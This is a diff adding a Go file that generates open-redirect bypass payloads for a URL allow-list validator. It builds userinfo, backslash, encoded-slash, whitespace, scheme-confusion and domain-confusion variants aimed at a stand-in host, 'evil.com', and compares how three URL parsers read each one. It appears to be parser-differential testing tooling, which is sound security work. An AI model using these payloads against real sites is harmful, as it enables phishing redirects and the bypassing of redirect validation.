@@ -0,0 +1,160 @@
+package rawurlparser
+
+import (
+	"net/url"
+	"strings"
+)
+
+// Open-redirect payload techniques
+const (
+	RedirectUserinfo       = "userinfo"         // allowed@evil
+	RedirectBackslash      = "backslash"        // Browsers treat '\' as '/' in special URLs
+	RedirectSchemeRelative = "scheme-relative"  // //evil keeps the current scheme
+	RedirectEncodedSlash   = "encoded-slash"    // Slashes hidden from validators that check before decoding
+	RedirectWhitespace     = "whitespace"       // Tabs and newlines are removed by browsers
+	RedirectSchemeConfuse  = "scheme-confusion" // https:evil, missing or extra slashes
+	RedirectFragmentQuery  = "fragment-query"   // '#' and '?' ending the authority early
+	RedirectDomainConfuse  = "domain-confusion" // allowed host as prefix, suffix or path of evil
+	RedirectIPNotation     = "ip-notation"      // Alternate spellings of an attacker IPv4 address
+)
+
+// RedirectPayload is a redirect parameter value and how parsers read it
+type RedirectPayload struct {
+	Value      string // Value for the redirect parameter
+	Location   string // Value after one round of percent-decoding, as the server would emit it
+	Technique  string // One of the Redirect* constants
+	RawURLHost string // Hostname from RawURLParse(Location) resolved against the allowed URL, empty on error
+	StdlibHost string // Hostname from net/url resolving Location against the allowed URL
+	WHATWGHost string // Host a browser navigates to, see WHATWGHost
+}
+
+// Divergent reports whether the parsers disagree on the host. Hosts are
+// compared case-insensitively, browsers lowercase them and the others do not.
+func (p RedirectPayload) Divergent() bool {
+	return !strings.EqualFold(p.RawURLHost, p.StdlibHost) || !strings.EqualFold(p.StdlibHost, p.WHATWGHost)
+}
+
+// GenerateRedirectPayloads returns open-redirect payloads for a validator that
+// only allows redirects to allowed's host. attacker is the host the redirect
+// should reach, "evil.com" when empty. Every Value parses with RawURLParse,
+// and the three host fields record how RawURLParse, net/url and browsers
+// read it.
+func GenerateRedirectPayloads(allowed *RawURL, attacker string) ([]RedirectPayload, error) {
+	if attacker == "" {
+		attacker = "evil.com"
+	}
+	if _, err := parseWHATWGHost(attacker); err != nil {
+		return nil, err
+	}
+	host := allowed.Host
+	scheme := allowed.Scheme
+	if scheme == "" {
+		scheme = "https"
+	}
+	other := "http"
+	if strings.EqualFold(scheme, "http") {
+		other = "https"
+	}
+
+	type candidate struct{ value, technique string }
+	candidates := []candidate{
+		{scheme + "://" + host + "@" + attacker, RedirectUserinfo},
+		{"//" + host + "@" + attacker, RedirectUserinfo},
+		{scheme + "://" + host + ":443@" + attacker, RedirectUserinfo},
+		{scheme + "://" + host + "&@" + attacker, RedirectUserinfo},
+		{scheme + "://" + host + "%2540" + attacker, RedirectUserinfo},
+		{scheme + "://" + attacker + `\@` + host, RedirectUserinfo},
+
+		{`/\` + attacker, RedirectBackslash},
+		{`\/` + attacker, RedirectBackslash},
+		{`\\` + attacker, RedirectBackslash},
+		{scheme + `:\\` + attacker, RedirectBackslash},
+		{scheme + `:/\` + attacker, RedirectBackslash},
+		{scheme + `://` + host + `\` + attacker, RedirectBackslash},
+
+		{"//" + attacker, RedirectSchemeRelative},
+		{"///" + attacker, RedirectSchemeRelative},
+		{"////" + attacker, RedirectSchemeRelative},
+		{`/\/` + attacker, RedirectSchemeRelative},
+
+		{"%2f%2f" + attacker, RedirectEncodedSlash},
+		{"/%2f" + attacker, RedirectEncodedSlash},
+		{"%5c%5c" + attacker, RedirectEncodedSlash},
+		{"/%5c" + attacker, RedirectEncodedSlash},
+		{"%252f%252f" + attacker, RedirectEncodedSlash},
+
+		{"/%09/" + attacker, RedirectWhitespace},
+		{"/%0a/" + attacker, RedirectWhitespace},
+		{"/%0d/" + attacker, RedirectWhitespace},
+		{"%09//" + attacker, RedirectWhitespace},
+		{"%20//" + attacker, RedirectWhitespace},
+		{scheme + ":%0a%0d//" + attacker, RedirectWhitespace},
+
+		{scheme + ":" + attacker, RedirectSchemeConfuse},
+		{other + ":" + attacker, RedirectSchemeConfuse},
+		{scheme + ":/" + attacker, RedirectSchemeConfuse},
+		{scheme + ":///" + attacker, RedirectSchemeConfuse},
+		{strings.ToUpper(scheme) + "://" + attacker, RedirectSchemeConfuse},
+
+		{scheme + "://" + attacker + "#@" + host, RedirectFragmentQuery},
+		{scheme + "://" + attacker + "?@" + host, RedirectFragmentQuery},
+		{scheme + "://" + attacker + "#." + host, RedirectFragmentQuery},
+		{scheme + "://" + attacker + "?" + host, RedirectFragmentQuery},
+		{scheme + "://" + host + "#@" + attacker, RedirectFragmentQuery},
+
+		{scheme + "://" + host + "." + attacker, RedirectDomainConfuse},
+		{scheme + "://" + attacker + "/" + host, RedirectDomainConfuse},
+		{scheme + "://" + attacker + "/" + scheme + "://" + host, RedirectDomainConfuse},
+		{scheme + "://" + strings.ReplaceAll(host, ".", "") + attacker, RedirectDomainConfuse},
+	}
+
+	if addr, err := ParseIPv4(attacker); err == nil {
+		for _, v := range IPv4Variants(addr) {
+			candidates = append(candidates, candidate{"//" + v.Host, RedirectIPNotation})
+		}
+	}
+
+	base, err := url.Parse(allowed.String())
+	if err != nil {
+		base = &url.URL{Scheme: scheme, Host: allowed.Hostname}
+	}
+
+	var payloads []RedirectPayload
+	seen := map[string]struct{}{}
+	for _, c := range candidates {
+		if _, ok := seen[c.value]; ok {
+			continue
+		}
+		if _, err := RawURLParse(c.value); err != nil {
+			continue
+		}
+		seen[c.value] = struct{}{}
+
+		p := RedirectPayload{Value: c.value, Location: percentDecode(c.value), Technique: c.technique}
+		p.RawURLHost = rawURLRefHost(p.Location, allowed, scheme)
+		if ref, err := url.Parse(p.Location); err == nil {
+			p.StdlibHost = base.ResolveReference(ref).Hostname()
+		}
+		p.WHATWGHost, _ = WHATWGHost(p.Location, allowed)
+		payloads = append(payloads, p)
+	}
+	return payloads, nil
+}
+
+// rawURLRefHost returns the host of the reference ref resolved against base
+// (RFC 3986, section 5.2) with RawURLParse: a scheme or "//" brings its own
+// authority, everything else keeps base's host
+func rawURLRefHost(ref string, base *RawURL, scheme string) string {
+	if i := strings.IndexByte(ref, ':'); i <= 0 || !validScheme(ref[:i]) {
+		// RawURLParse would give scheme-less input a scheme and host of its own
+		if !strings.HasPrefix(ref, "//") {
+			return base.Hostname
+		}
+		ref = scheme + ":" + ref
+	}
+	u, err := RawURLParse(ref)
+	if err != nil {
+		return ""
+	}
+	return u.Hostname
+}